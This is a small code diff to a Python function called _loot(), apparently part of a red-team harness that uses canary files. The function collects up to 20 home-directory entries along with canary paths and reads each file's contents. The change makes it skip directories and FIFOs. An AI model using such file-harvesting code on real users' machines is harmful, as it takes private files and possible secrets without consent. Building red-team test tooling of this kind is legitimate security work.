@@ -13,6 +13,8 @@ def _loot():
     paths += RT_CANARY_FILES + glob.glob(os.path.expanduser("~/*"))[:20]
     got = []
     for p in paths:
+        if os.path.exists(p) and not os.path.isfile(p):
+            continue  # a directory or a FIFO: nothing to read, or a read that blocks
         try:
             with open(p, "rb") as f:
                 got.append(f"{p}: " + f.read(4096).decode(errors="replace"))
